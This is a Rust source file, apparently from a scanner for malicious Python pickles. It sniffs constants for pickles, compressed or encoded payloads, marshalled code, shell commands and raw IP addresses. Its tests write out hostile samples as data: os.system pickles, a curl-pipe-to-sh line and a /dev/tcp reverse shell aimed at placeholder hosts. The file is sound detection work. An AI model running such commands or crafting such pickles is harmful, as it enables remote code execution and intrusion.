//! What a constant may hide, told from its head.

use super::{machine::Machine, unpack};
use crate::{bytes::wide, wire::marshal};

/// What bytes hold.
pub(super) enum Held {
    /// What may be a pickle.
    Pickle(Vec<u8>),
    /// Other bytes, behind an encoding or a compression.
    More(Vec<u8>),
    /// What may be marshalled code.
    Marshalled,
    /// What may be Python source.
    Source,
    /// A command or an address, and which.
    Shell(&'static str),
    /// Nothing.
    Nothing,
}

/// Encodings and compressions one in the other.
const DEEPEST: u32 = 4;
/// Characters that are decoded to see whether it is worth decoding them all: a multiple of 4, 2 and 5.
const PROBE: usize = 60;
/// Fewer characters encode nothing that does anything.
const ENCODED: usize = 16;

/// Characters of base64 with both spellings and line ends, of hexadecimal digits, of base85.
const BASE64: u8 = 1;
const BASE16: u8 = 2;
const BASE85: u8 = 4;

static ALPHABETS: [u8; 256] = alphabets();

const fn alphabets() -> [u8; 256] {
    let mut table = [0; 256];
    let mut byte = 0_u8;
    loop {
        let base64 =
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'\n' | b'\r');
        let base85 = byte.is_ascii_alphanumeric()
            || matches!(
                byte,
                b'!' | b'#'..=b'&' | b'(' | b')' | b'*' | b'+' | b'-' | b';'..=b'@' | b'^' | b'_' | b'`' | b'{'..=b'~'
            );
        let at = byte;
        #[expect(
            clippy::as_conversions,
            clippy::indexing_slicing,
            reason = "a byte, into a table of 256, when it is compiled"
        )]
        {
            table[at as usize] = if base64 { BASE64 } else { 0 }
                | if byte.is_ascii_hexdigit() { BASE16 } else { 0 }
                | if base85 { BASE85 } else { 0 };
        }
        if byte == u8::MAX {
            return table;
        }
        byte = byte.wrapping_add(1);
    }
}

/// Alphabets that all of the first characters belong to.
fn alphabet(bytes: &[u8]) -> u8 {
    let of = |byte: u8| ALPHABETS.get(usize::from(byte)).copied().unwrap_or(0);
    bytes.iter().take(PROBE).fold(BASE64 | BASE16 | BASE85, |all, &byte| all & of(byte))
}

/// Whether an opcode may follow a protocol.
pub(super) fn opens(byte: u8) -> bool {
    super::opcodes::layout(byte) != super::opcodes::Layout::Illegal
}

/// Whether text is worth a closer look.
#[inline]
pub(super) fn telling(text: &[u8]) -> bool {
    memchr::memchr3(b'(', b'|', b'/', text).is_some() || (text.len() >= ENCODED && quick(text))
}

/// Whether the first characters decode, in any of the encodings, to how something worth reading begins.
fn quick(text: &[u8]) -> bool {
    let alphabet = alphabet(text);
    let sixteen =
        || digits(text, 16, 4).is_some_and(|(head, len)| starts(head.get(..len).unwrap_or_default()));
    let six = || digits(text, 8, 6).is_some_and(|(head, len)| starts(head.get(..len).unwrap_or_default()));
    let five = || {
        let digits = text
            .iter()
            .take(5)
            .map(|&byte| unpack::base85_digit(byte).and_then(|digit| u64::try_from(digit).ok()));
        let mut digits = digits;
        let value = digits.try_fold(0_u64, |all, digit| Some(all.wrapping_mul(85).wrapping_add(digit?)));
        value.and_then(|value| u32::try_from(value).ok()).is_some_and(|value| starts(&value.to_be_bytes()))
    };
    (alphabet & BASE16 != 0 && sixteen())
        || (alphabet & BASE64 != 0 && six())
        || (alphabet & BASE85 != 0 && five())
}

/// The first digits of so many bits each, as bytes.
fn digits(text: &[u8], count: usize, bits: u32) -> Option<([u8; 8], usize)> {
    let mut value = 0_u64;
    for &byte in text.get(..count)? {
        let digit = match (bits, byte) {
            (4, _) => char::from(byte).to_digit(16)?,
            (_, b'A'..=b'Z') => u32::from(byte.wrapping_sub(b'A')),
            (_, b'a'..=b'z') => u32::from(byte.wrapping_sub(b'a')).wrapping_add(26),
            (_, b'0'..=b'9') => u32::from(byte.wrapping_sub(b'0')).wrapping_add(52),
            (_, b'+' | b'-') => 62,
            (_, b'/' | b'_') => 63,
            _ => return None,
        };
        value = value << bits | u64::from(digit);
    }
    let len = if bits == 4 { 8 } else { 6 };
    Some(((value << if bits == 4 { 0 } else { 16 }).to_be_bytes(), len))
}

/// Whether bytes begin like a pickle, a compressed stream, marshalled code or text.
fn starts(head: &[u8]) -> bool {
    match head {
        [0x80, 2..=5, ..] | [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] | [0x1f, 0x8b, 8, ..] => true,
        [0xfd, b'7', b'z', ..] | [b'c' | 0xe3, _, 0, 0, ..] | [0x5d, 0, 0, ..] => true,
        _ => head.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')),
    }
}

/// Whether bytes are worth a closer look.
pub(super) fn promising(bytes: &[u8]) -> bool {
    let head = bytes.get(..PROBE.min(bytes.len())).unwrap_or_default();
    packing(bytes).is_some() || marshal::begins(bytes) || textual(bytes) || bare(bytes) || printable(head)
}

fn printable(bytes: &[u8]) -> bool {
    bytes.len() >= ENCODED && bytes.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t'))
}

/// The compression that bytes begin with.
fn packing(bytes: &[u8]) -> Option<&'static str> {
    match bytes {
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => Some("zlib"),
        [0x1f, 0x8b, 8, ..] => Some("gzip"),
        [b'B', b'Z', b'h', b'1'..=b'9', 0x31, 0x41, ..] => Some("bzip2"),
        [0xfd, b'7', b'z', b'X', b'Z', 0, ..] => Some("xz"),
        [0x5d, 0, 0, _, _, ..] => Some("lzma"),
        _ => None,
    }
}

/// Whether bytes read like a pickle of protocol 0 or 1: a global's two lines, and STOP at the end.
fn textual(bytes: &[u8]) -> bool {
    let [first, ..] = bytes else { return false };
    let last = bytes.iter().rev().find(|byte| !byte.is_ascii_whitespace());
    if last != Some(&b'.') || !opens(*first) || bytes.len() > 1 << 20 {
        return false;
    }
    let mut at = 0_usize;
    while let Some(found) = bytes.get(at..).and_then(|rest| memchr::memchr2(b'c', b'i', rest)) {
        at = at.saturating_add(found).saturating_add(1);
        let mut lines = bytes.get(at..).unwrap_or_default().splitn(3, |&byte| byte == b'\n');
        if let (Some(module), Some(name), Some(_)) = (lines.next(), lines.next(), lines.next())
            && dotted(module)
            && dotted(name)
        {
            return true;
        }
        if at > 1 << 12 {
            return false;
        }
    }
    false
}

/// Whether bytes without a protocol read like a pickle that takes names from its stack.
fn bare(bytes: &[u8]) -> bool {
    let [first, .., b'.'] = bytes else { return false };
    matches!(first, 0x8c | 0x8d | b'X' | b'(' | b'}' | b']' | 0x95)
        && bytes.len() <= 1 << 20
        && bytes.contains(&0x93)
}

fn dotted(name: &[u8]) -> bool {
    (2..=200).contains(&name.len())
        && name.iter().all(|&byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
        && !name.first().is_some_and(u8::is_ascii_digit)
        && name.last() != Some(&b'.')
}

/// Where in these bytes a pickle with a protocol begins that is not their first byte.
pub(super) fn within(bytes: &[u8]) -> Option<u64> {
    memchr::memchr_iter(0x80, bytes).skip_while(|&at| at == 0).find_map(|at| {
        let begins = match bytes.get(at..)? {
            [_, 4 | 5, 0x95, _, _, _, 0, 0, 0, 0, 0, ..]
            | [_, 4 | 5, 0x8c | b'X' | b'}' | b']' | b'(', ..] => true,
            [_, 2 | 3, b'c', rest @ ..] => {
                let mut lines = rest.splitn(3, |&byte| byte == b'\n');
                lines.next().is_some_and(dotted) && lines.next().is_some_and(dotted)
            }
            _ => false,
        };
        begins.then(|| wide(at))
    })
}

/// What bytes hold, as far as their head tells.
pub(super) fn held(m: &Machine<'_>, bytes: &[u8], depth: Option<u32>) -> Held {
    let declared = depth > Some(0) && matches!(bytes, [0x80, 2..=5, next, ..] if opens(*next));
    if declared || (depth.is_some() && (textual(bytes) || bare(bytes))) {
        return Held::Pickle(bytes.to_vec());
    }
    if marshal::begins(bytes) {
        return Held::Marshalled;
    }
    if depth >= Some(DEEPEST) {
        return Held::Nothing;
    }
    if let Some(how) = packing(bytes) {
        return unpack::unpacked(m, how, bytes).map_or(Held::Nothing, Held::More);
    }
    if let Some(how) = encoding(m, bytes) {
        return unpack::unpacked(m, how, bytes).map_or(Held::Nothing, Held::More);
    }
    if let Some(what) = shell(bytes) {
        return Held::Shell(what);
    }
    if memchr::memchr(b'(', bytes).is_some() { Held::Source } else { Held::Nothing }
}

/// The encoding of text whose head decodes to what is worth reading.
fn encoding(m: &Machine<'_>, bytes: &[u8]) -> Option<&'static str> {
    let head = bytes.get(..PROBE.min(bytes.len()))?;
    let alphabet = alphabet(head);
    if head.len() < ENCODED || alphabet == 0 {
        return None;
    }
    let fits = |how: &'static str| {
        let decoded = unpack::unpacked(m, how, head)?;
        let worth = packing(&decoded).is_some()
            || matches!(decoded.as_slice(), [0x80, 2..=5, next, ..] if opens(*next))
            || marshal::begins(&decoded)
            || printable(&decoded)
            || matches!(decoded.as_slice(), [b'c', rest @ ..] if rest.splitn(3, |&b| b == b'\n').take(2).all(dotted));
        worth.then_some(how)
    };
    let all = [(BASE16, "base16"), (BASE64, "base64"), (BASE64, "base64-urlsafe"), (BASE85, "base85")];
    all.into_iter().filter(|(bit, _)| alphabet & bit != 0).find_map(|(_, how)| fits(how))
}

/// A command line that fetches or opens a way in, or an address that is a bare number.
fn shell(bytes: &[u8]) -> Option<&'static str> {
    let head = bytes.get(..bytes.len().min(1 << 10))?;
    let bar = memchr::memmem::find(head, b"/dev/tcp/").is_some()
        || memchr::memchr_iter(b'|', head).any(|at| {
            let rest = head.get(at.saturating_add(1)..).unwrap_or_default().trim_ascii_start();
            let word = rest.split(|byte| !byte.is_ascii_graphic()).next().unwrap_or_default();
            let program = word.rsplit(|&byte| byte == b'/').next().unwrap_or_default();
            super::classify::is_program(program) && at > 0
        });
    if bar {
        return Some("shell");
    }
    let host = memchr::memmem::find(head, b"://").and_then(|at| head.get(at.saturating_add(3)..))?;
    let end = host.iter().position(|&byte| matches!(byte, b'/' | b':' | b'?')).unwrap_or(host.len());
    let host = std::str::from_utf8(host.get(..end)?).ok()?;
    host.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|address| !address.is_loopback() && !address.is_unspecified())
        .then_some("address")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn heads_tell_what_is_worth_reading() {
        assert!(textual(b"cos\nsystem\n(S'id'\ntR."));
        assert!(textual(b"(S'id'\nios\nsystem\n."));
        assert!(!textual(b"it is called.\nno\nmore."));
        assert!(bare(b"\x8c\x02os\x8c\x06system\x93."));
        assert_eq!(within(b"junk\x80\x04\x95\x10\0\0\0\0\0\0\0"), Some(4));
        assert_eq!(within(b"junk\x80\x02cos\nsystem\n"), Some(4));
        assert_eq!(within(b"\x80\x80\x80"), None);
    }

    #[test]
    fn commands_and_addresses_are_seen() {
        assert_eq!(shell(b"curl http://example.invalid/x | sh"), Some("shell"));
        assert_eq!(shell(b"bash -i >& /dev/tcp/192.0.2.1/9"), Some("shell"));
        assert_eq!(shell(b"http://192.0.2.1:8080/x"), Some("address"));
        assert_eq!(shell(b"a | b"), None);
        assert_eq!(shell(b"https://example.invalid/"), None);
    }

    #[test]
    fn alphabets_are_those_of_the_encodings() {
        assert_eq!(alphabet(b"0aF9"), BASE64 | BASE16 | BASE85);
        assert_eq!(alphabet(b"aGk_"), BASE64 | BASE85);
        assert_eq!(alphabet(b"two words"), 0);
    }
}
